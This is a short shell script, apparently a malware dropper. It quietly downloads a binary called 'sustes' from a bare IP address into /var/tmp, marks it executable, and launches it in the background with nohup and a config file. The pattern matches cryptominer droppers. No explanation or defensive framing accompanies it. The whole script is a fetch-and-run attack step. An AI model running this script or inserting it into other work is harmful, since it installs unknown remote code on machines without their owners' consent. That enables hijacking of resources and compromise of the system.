#!/bin/sh
wget -q http://203.0.113.40/sustes -O /var/tmp/sustes
chmod +x /var/tmp/sustes
nohup /var/tmp/sustes -c /var/tmp/config.json &
